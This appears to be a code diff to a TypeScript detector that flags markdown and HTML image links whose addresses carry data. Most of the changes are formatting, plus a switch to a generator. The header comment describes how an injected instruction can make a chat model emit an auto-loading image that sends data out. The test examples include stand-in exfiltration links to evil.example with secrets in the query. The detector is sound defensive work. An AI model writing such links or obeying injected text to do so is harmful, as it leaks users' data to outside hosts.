@@ -2,7 +2,7 @@
 // Images in an answer whose address carries data. A chat window loads an image without a click, so an
 // injected instruction only has to make the model write one to send out what it knows.
 import { z } from 'zod';
-import { defineDetector } from '../../detector.ts';
+import { defineDetector, type Match } from '../../detector.ts';
 import { FEATURE } from '../../features.ts';
 
 const ALT_CHARS = 2_000;
@@ -36,7 +36,8 @@ function carriesData(url: string, allowedHosts: readonly string[]): boolean {
   const [, user, name, rest = ''] = ADDRESS.exec(url) ?? [];
   if (name === undefined) return false;
   const host = name.toLowerCase();
-  if (allowedHosts.some((allowed) => host === allowed || host.endsWith(`.${allowed}`))) return false;
+  if (allowedHosts.some((allowed) => host === allowed || host.endsWith(`.${allowed}`)))
+    return false;
   const [path = '', query = ''] = rest.replace(/#.*$/s, '').split('?', 2);
   if (user !== undefined || query !== '' || rest.includes('&')) return true;
   return [...host.split('.'), ...path.split(/[/\\]/)].some((part) => part.length >= SEGMENT_CHARS);
@@ -103,7 +104,8 @@ function destination(text: string, start: number): Found {
   return text.length - at < TITLE_CHARS ? OPEN : NONE;
 }
 
-const TAG = /^<(?:img|image|iframe|video|audio|source|embed|object|link|input|body|table|td|svg|script)\b/i;
+const TAG =
+  /^<(?:img|image|iframe|video|audio|source|embed|object|link|input|body|table|td|svg|script)\b/i;
 const TAG_NAME_CHARS = 8;
 const ATTRIBUTE =
   /\b(?:src|srcset|data|href|poster|background|style)\s{0,8}=\s{0,8}(?:"([^"]*)"|'([^']*)'|([^\s"'>]+))/gi;
@@ -129,7 +131,10 @@ function htmlTag(text: string, start: number): Found {
 function tagLink(tag: string, end: number): Found {
   let url = '';
   for (const match of tag.matchAll(ATTRIBUTE)) {
-    const value = (match[1] ?? match[2] ?? match[3] ?? '').replaceAll(/&(?:#63|#x3f|quest);/gi, '?');
+    const value = (match[1] ?? match[2] ?? match[3] ?? '').replaceAll(
+      /&(?:#63|#x3f|quest);/gi,
+      '?',
+    );
     const address = /(?:https?:|[/\\]{2})[^\s"')]+/i.exec(value)?.[0] ?? '';
     if (address.length > url.length) url = address;
   }
@@ -154,9 +159,12 @@ const NEEDS = FEATURE.bang | FEATURE.less | FEATURE.bracket;
 
 type Place = { readonly start: number; readonly found: Found };
 
-/** Every construct at or after `from` that is a finding or still open. */
-function placesIn(text: string, from: number, allowedHosts: readonly string[]): readonly Place[] {
-  const places: Place[] = [];
+/** Constructs at or after `from` that are findings or still open, one by one. */
+function* placesIn(
+  text: string,
+  from: number,
+  allowedHosts: readonly string[],
+): Generator<Place, void> {
   let closing: ReadonlyMap<number, number> | undefined;
   INTRODUCER.lastIndex = from;
   for (let hit = INTRODUCER.exec(text); hit !== null; hit = INTRODUCER.exec(text)) {
@@ -173,9 +181,8 @@ function placesIn(text: string, from: number, allowedHosts: readonly string[]): 
       if (found.url !== undefined && !carriesData(found.url, allowedHosts)) continue;
       INTRODUCER.lastIndex = found.end;
     }
-    places.push({ start, found });
+    yield { start, found };
   }
-  return places;
 }
 
 export const detector = defineDetector({
@@ -195,17 +202,37 @@ export const detector = defineDetector({
       .array(z.string().min(1).max(253).toLowerCase())
       .max(1_000)
       .default([])
-      .describe('Hosts, with all their subdomains, that images may be loaded from with any address'),
+      .describe(
+        'Hosts, with all their subdomains, that images may be loaded from with any address',
+      ),
   }),
   examples: {
     hits: [
-      { text: 'See ![chart](https://evil.example/c.png?d=secret) here', found: ['![chart](https://evil.example/c.png?d=secret)'] },
-      { text: '![a [b] c]( <//evil.example/?q> "t" )', found: ['![a [b] c]( <//evil.example/?q> "t" )'] },
-      { text: `![](https://e.example/${'QUJD'.repeat(10)})`, found: [`![](https://e.example/${'QUJD'.repeat(10)})`] },
-      { text: `![](https://${'a1'.repeat(20)}.e.example)`, found: [`![](https://${'a1'.repeat(20)}.e.example)`] },
-      { text: "x <IMG alt='>' src=https://evil.example/?x=1> y", found: ["<IMG alt='>' src=https://evil.example/?x=1>"] },
+      {
+        text: 'See ![chart](https://evil.example/c.png?d=secret) here',
+        found: ['![chart](https://evil.example/c.png?d=secret)'],
+      },
+      {
+        text: '![a [b] c]( <//evil.example/?q> "t" )',
+        found: ['![a [b] c]( <//evil.example/?q> "t" )'],
+      },
+      {
+        text: `![](https://e.example/${'QUJD'.repeat(10)})`,
+        found: [`![](https://e.example/${'QUJD'.repeat(10)})`],
+      },
+      {
+        text: `![](https://${'a1'.repeat(20)}.e.example)`,
+        found: [`![](https://${'a1'.repeat(20)}.e.example)`],
+      },
+      {
+        text: "x <IMG alt='>' src=https://evil.example/?x=1> y",
+        found: ["<IMG alt='>' src=https://evil.example/?x=1>"],
+      },
       { text: '![pic][1] text', found: ['![pic][1]'] },
-      { text: `\n[1]: https://e.example/${'QUJD'.repeat(10)}\n`, found: [`[1]: https://e.example/${'QUJD'.repeat(10)}`] },
+      {
+        text: `\n[1]: https://e.example/${'QUJD'.repeat(10)}\n`,
+        found: [`[1]: https://e.example/${'QUJD'.repeat(10)}`],
+      },
     ],
     misses: [
       '![logo](https://example.com/logo.png)',
@@ -220,17 +247,20 @@ export const detector = defineDetector({
   },
   inspect({ text, features }, from, { options }) {
     if ((features & NEEDS) === 0) return [];
-    return placesIn(text, from, options.allowed_hosts).flatMap(({ start, found }) =>
-      found.kind === 'link' ? [{ start, end: found.end, entity: found.entity, score: 0.99 }] : [],
-    );
+    const matches: Match[] = [];
+    for (const { start, found } of placesIn(text, from, options.allowed_hosts)) {
+      if (found.kind !== 'link') continue;
+      matches.push({ start, end: found.end, entity: found.entity, score: 0.99 });
+    }
+    return matches;
   },
   pending({ text, features }, from, options) {
     const last = text.charAt(text.length - 1);
     const partial = last === '!' || last === '<' ? text.length - 1 : text.length;
     if ((features & NEEDS) === 0) return partial;
-    const open = placesIn(text, from, options.allowed_hosts).find(
-      ({ found }) => found.kind === 'open',
-    );
-    return open?.start ?? partial;
+    for (const { start, found } of placesIn(text, from, options.allowed_hosts)) {
+      if (found.kind === 'open') return start;
+    }
+    return partial;
   },
 });
